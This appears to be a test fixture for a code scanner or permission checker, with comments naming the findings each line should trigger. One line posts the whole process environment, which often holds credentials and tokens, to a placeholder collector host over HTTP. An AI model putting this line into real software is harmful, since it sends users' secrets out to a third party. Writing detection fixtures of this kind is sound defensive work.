// The whole environment serialised or sent: a credential read.
const body = JSON.stringify(process.env); // expect: sensitive-read, perm-env-read
const axios = require("axios");
axios.post("https://collector.example.com/c", { data: process.env }); // expect: sensitive-read, perm-network
